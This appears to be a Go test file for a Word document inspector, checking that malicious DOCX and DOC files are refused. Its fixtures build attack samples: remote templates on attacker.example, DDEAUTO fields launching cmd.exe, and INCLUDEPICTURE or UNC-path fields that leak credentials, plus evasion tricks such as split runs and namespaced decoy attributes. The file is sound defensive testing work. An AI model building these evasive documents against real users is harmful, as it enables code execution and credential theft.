package documents

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"errors"
	"strings"
	"testing"
)

const (
	relNS          = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	wordNS         = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
	remoteTemplate = `https://attacker.example/t.dotm`
)

// wordDocument wraps paragraphs in a WordprocessingML document.
func wordDocument(paras string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document ` + wordNS + `><w:body>` + paras + `</w:body></w:document>`
}

// docxWithDocument is a minimal DOCX whose main part is body.
func docxWithDocument(t testing.TB, body string, extra ...zipFile) []byte {
	files := []zipFile{
		{"[Content_Types].xml", []byte(ctDOCX), zip.Deflate},
		{"_rels/.rels", []byte(relsRoot), zip.Deflate},
		{"word/document.xml", []byte(body), zip.Deflate},
	}
	return buildZip(t, append(files, extra...)...)
}

// complexField is a field written the long way (fldChar begin, instruction
// runs, separate, result, end), the instruction split over the given runs.
func complexField(instr ...string) string {
	s := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, in := range instr {
		s += `<w:r><w:instrText xml:space="preserve">` + in + `</w:instrText></w:r>`
	}
	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

// TestAttackDOCXRelationshipSpoofing: a relationship the checker reads one
// way and Word another. Word (System.IO.Packaging, MSXML) reads the
// unqualified Type, Target and TargetMode attributes only; encoding/xml
// matches attributes by local name in any namespace and keeps the last one.
// A namespaced decoy therefore hid a remote template (T1221: Word fetches
// the .dotm, runs its macros, or leaks NTLM credentials to a UNC path).
func TestAttackDOCXRelationshipSpoofing(t *testing.T) {
	settingsRels := func(rel string) zipFile {
		return zipFile{"word/_rels/settings.xml.rels", []byte(docRels(rel)), zip.Deflate}
	}
	tests := []struct {
		name string
		in   []byte
	}{
		{"namespaced Type decoy after the real one", docxWithDocument(t, wordBody, settingsRels(
			`<Relationship xmlns:x="urn:x" Id="rId1" Type="`+relNS+`attachedTemplate" x:Type="`+relNS+`hyperlink" Target="`+remoteTemplate+`" TargetMode="External"/>`))},
		{"namespaced TargetMode decoy", docxWithDocument(t, wordBody, settingsRels(
			`<Relationship xmlns:x="urn:x" Id="rId1" Type="`+relNS+`image" Target="\\attacker.example\share\a.png" TargetMode="External" x:TargetMode="Internal"/>`))},
		{"TargetMode not exactly Internal", docxWithDocument(t, wordBody, settingsRels(
			`<Relationship Id="rId1" Type="`+relNS+`image" Target="https://attacker.example/a.png" TargetMode=" External"/>`))},
		{"relationship part with a %-encoded suffix", docxWithDocument(t, wordBody, zipFile{"word/_rels/settings.xml.rel%73", []byte(docRels(
			`<Relationship Id="rId1" Type="` + relNS + `attachedTemplate" Target="` + remoteTemplate + `" TargetMode="External"/>`)), zip.Deflate})},
		{"namespaced ContentType decoy on the main part", buildZip(t,
			zipFile{"[Content_Types].xml", []byte(strings.Replace(ctDOCX,
				`ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"`,
				`xmlns:x="urn:x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml" x:ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"`, 1)), zip.Deflate},
			zipFile{"_rels/.rels", []byte(relsRoot), zip.Deflate},
			zipFile{"word/document.xml", []byte(wordBody), zip.Deflate})},
		{"a Java archive inside", docxWithDocument(t, wordBody,
			zipFile{"META-INF/MANIFEST.MF", []byte("Main-Class: A\n"), zip.Deflate},
			zipFile{"A.class", []byte("\xCA\xFE\xBA\xBE"), zip.Deflate})},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if doc, err := inspect(tt.in); !errors.Is(err, ErrUnsupported) {
				t.Fatalf("accepted (%v, %v)", doc != nil, err)
			}
		})
	}
	// A plain external hyperlink stays accepted.
	ok := docxWithDocument(t, wordBody, zipFile{"word/_rels/document.xml.rels", []byte(docRels(
		`<Relationship Id="rId1" Type="` + relNS + `hyperlink" Target="https://example.com/" TargetMode="External"/>`)), zip.Deflate})
	if _, err := inspect(ok); err != nil {
		t.Fatalf("hyperlink refused: %v", err)
	}
}

// TestAttackDOCXFieldCodes: fields that run commands or fetch content when
// the reviewer opens the file, with no macro and no relationship at all.
// DDEAUTO starts a program (the 2017 macro-less DDE campaigns);
// INCLUDEPICTURE, INCLUDETEXT, LINK and DATABASE fetch a URL or UNC path
// (the reviewer's address, or NTLM credentials, go to the attacker).
func TestAttackDOCXFieldCodes(t *testing.T) {
	header := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr ` + wordNS + `>` +
		complexField(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `) + `</w:hdr>`
	ctHeader := strings.Replace(ctDOCX, `</Types>`,
		`<Override PartName="/word/header1.bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>`, 1)
	refused := []struct {
		name string
		in   []byte
	}{
		{"DDEAUTO", docxWithDocument(t, wordDocument(complexField(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" `)))},
		{"DDE split over runs", docxWithDocument(t, wordDocument(complexField(` D`, `DE`, `AUTO c:\\x.exe "a"`)))},
		{"DDE lower case", docxWithDocument(t, wordDocument(complexField(`dde "c:\\x.exe" "a"`)))},
		{"DDE as character references", docxWithDocument(t, wordDocument(complexField(`&#x44;&#68;E c:\\x.exe "a"`)))},
		{"DDE in a simple field", docxWithDocument(t, wordDocument(`<w:p><w:fldSimple w:instr=" DDEAUTO c:\\x.exe a"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`))},
		{"INCLUDEPICTURE from a URL", docxWithDocument(t, wordDocument(complexField(`INCLUDEPICTURE "https://attacker.example/p.png" \d`)))},
		{"INCLUDETEXT from a UNC path", docxWithDocument(t, wordDocument(complexField(`INCLUDETEXT "\\\\attacker.example\\s\\a.docx"`)))},
		{"LINK to a remote file", docxWithDocument(t, wordDocument(complexField(`LINK Excel.Sheet.8 "\\\\attacker.example\\s\\a.xls" "" \a`)))},
		{"field name built by a nested field", docxWithDocument(t, wordDocument(
			`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`+
				`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`+
				`<w:r><w:instrText> c:\\x.exe a</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`))},
		{"DDEAUTO in a header part not named .xml", buildZip(t,
			zipFile{"[Content_Types].xml", []byte(ctHeader), zip.Deflate},
			zipFile{"_rels/.rels", []byte(relsRoot), zip.Deflate},
			zipFile{"word/document.xml", []byte(wordBody), zip.Deflate},
			zipFile{"word/header1.bin", []byte(header), zip.Deflate})},
		{"XML part in UTF-16", docxWithDocument(t, wordBody, zipFile{"word/footer1.xml",
			append([]byte{0xFF, 0xFE}, utf16le(`<?xml version="1.0" encoding="UTF-16"?><w:ftr `+wordNS+`/>`)...), zip.Deflate})},
	}
	for _, tt := range refused {
		t.Run(tt.name, func(t *testing.T) {
			if doc, err := inspect(tt.in); !errors.Is(err, ErrUnsupported) {
				t.Fatalf("accepted (%v, %v)", doc != nil, err)
			}
		})
	}
	accepted := []struct {
		name string
		in   []byte
	}{
		{"PAGE field", docxWithDocument(t, wordDocument(complexField(` PAGE \* MERGEFORMAT `)))},
		{"HYPERLINK field to a URL mentioning link", docxWithDocument(t, wordDocument(complexField(` HYPERLINK "https://example.com/link/include" `)))},
		{"nested field after the name", docxWithDocument(t, wordDocument(
			`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>`+
				`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`+
				`<w:r><w:instrText> = 1 "one" "more"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`))},
		{"text saying DDEAUTO", docxWithDocument(t, wordDocument(`<w:p><w:r><w:t>DDEAUTO INCLUDEPICTURE</w:t></w:r></w:p>`))},
	}
	for _, tt := range accepted {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := inspect(tt.in); err != nil {
				t.Fatalf("refused: %v", err)
			}
		})
	}
}

func utf16le(s string) []byte {
	var b bytes.Buffer
	for _, r := range s {
		b.WriteByte(byte(r))
		b.WriteByte(byte(r >> 8))
	}
	return b.Bytes()
}

// wordStream is a WordDocument stream of size bytes: a FIB, then text.
func wordStream(size int, text []byte) []byte {
	b := fib(size, 0)
	copy(b[1536:], text)
	return b
}

// TestAttackDOCFieldCodes: the same fields in a binary Word document, whose
// text (8-bit or UTF-16LE) sits in the WordDocument stream, with a field
// begin character 0x13 before each instruction.
func TestAttackDOCFieldCodes(t *testing.T) {
	dde := []byte("\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \x14x\x15")
	refused := []struct {
		name string
		in   []byte
	}{
		{"DDEAUTO, 8-bit text", wordCFB(t, wordStream(8192, dde))},
		{"INCLUDEPICTURE, UTF-16 text", wordCFB(t, wordStream(8192, utf16le("\x13 INCLUDEPICTURE \"https://attacker.example/p.png\" \\d \x15")))},
		{"DDE, stream in the mini stream", wordCFB(t, wordStream(2048, []byte("\x13dde c:\\x.exe a\x15")))},
	}
	for _, tt := range refused {
		t.Run(tt.name, func(t *testing.T) {
			if doc, err := inspect(tt.in); !errors.Is(err, ErrUnsupported) || !strings.Contains(err.Error(), "fields") {
				t.Fatalf("accepted (%v, %v)", doc != nil, err)
			}
		})
	}
	for _, text := range [][]byte{[]byte("\x13 PAGE \x14 1\x15"), utf16le("\x13 HYPERLINK \"https://example.com/link\" \x15"), []byte("DDEAUTO as plain text")} {
		if _, err := inspect(wordCFB(t, wordStream(8192, text))); err != nil {
			t.Fatalf("%q refused: %v", text, err)
		}
	}
}

// attackDOCXSeeds and attackDOCSeeds reach the field and attribute checks,
// for the fuzzers.
func attackDOCXSeeds(t testing.TB) [][]byte {
	return [][]byte{
		docxWithDocument(t, wordDocument(complexField(` D`, `DE`, `AUTO c:\\x.exe "a"`))),
		docxWithDocument(t, wordDocument(complexField(` PAGE `)+`<w:p><w:fldSimple w:instr="PAGE"/></w:p>`)),
		docxWithDocument(t, wordDocument(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>`+
			`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)),
		docxWithDocument(t, wordBody, zipFile{"word/_rels/settings.xml.rels", []byte(docRels(
			`<Relationship xmlns:x="urn:x" Id="rId1" Type="` + relNS + `attachedTemplate" x:Type="` + relNS + `hyperlink" Target="` + remoteTemplate + `" TargetMode="External"/>`)), zip.Deflate}),
		docxWithDocument(t, wordBody, zipFile{"word/media/x.bin", []byte(" <w:instrText>DDE</w:instrText>"), zip.Deflate}),
	}
}

func attackDOCSeeds(t testing.TB) [][]byte {
	return [][]byte{
		wordCFB(t, wordStream(8192, []byte("\x13 DDEAUTO c:\\x.exe a\x15\x13 PAGE \x15"))),
		wordCFB(t, wordStream(2048, utf16le("\x13 PAGE \x15"))),
	}
}

// pieceDOC is a WordDocument stream whose text Word assembles from pieces
// (the piece table in the 0Table stream, at fcClx): each piece is 8-bit
// text at the given offset of the stream, taken in the order given.
func pieceDOC(t testing.TB, size int, pieces ...struct {
	at   int
	text string
}) []byte {
	t.Helper()
	word := fib(size, 0)
	// FibBase, then csw 0, cslw 0 and 34 fc/lcb pairs: fcClx is pair 33.
	binary.LittleEndian.PutUint16(word[32:], 0)
	binary.LittleEndian.PutUint16(word[34:], 0)
	binary.LittleEndian.PutUint16(word[36:], 34)
	var plc []byte
	cp := uint32(0)
	plc = binary.LittleEndian.AppendUint32(plc, cp)
	for _, p := range pieces {
		copy(word[p.at:], p.text)
		cp += uint32(len(p.text))
		plc = binary.LittleEndian.AppendUint32(plc, cp)
	}
	for _, p := range pieces {
		plc = append(plc, 0, 0)
		plc = binary.LittleEndian.AppendUint32(plc, 0x40000000|uint32(p.at*2)) // 8-bit text at p.at
		plc = append(plc, 0, 0)
	}
	clx := append([]byte{0x02}, binary.LittleEndian.AppendUint32(nil, uint32(len(plc)))...)
	clx = append(clx, plc...)
	table := append(make([]byte, 64), clx...)
	binary.LittleEndian.PutUint32(word[38+33*8:], 64)
	binary.LittleEndian.PutUint32(word[38+33*8+4:], uint32(len(clx)))
	return wordCFB(t, word, cfbNode{name: "0Table", typ: 2, data: table})
}

// A field name split over pieces stored out of order: the stream holds
// "\x13 INC" after "LUDEPICTURE …", and only the piece table puts them
// together as Word does.
func TestAttackDOCFieldAcrossPieces(t *testing.T) {
	type piece = struct {
		at   int
		text string
	}
	split := pieceDOC(t, 8192, piece{4000, "\x13 INC"}, piece{3000, "LUDEPICTURE \"https://attacker.example/p.png\" \x15"})
	if doc, err := inspect(split); !errors.Is(err, ErrUnsupported) || !strings.Contains(err.Error(), "INCLUDEPICTURE") {
		t.Fatalf("a field split over pieces: accepted (%v, %v)", doc != nil, err)
	}
	plain := pieceDOC(t, 8192, piece{4000, "Passport scan, "}, piece{3000, "\x13 PAGE \x14 1\x15"})
	if _, err := inspect(plain); err != nil {
		t.Fatalf("a document in two pieces refused: %v", err)
	}
}
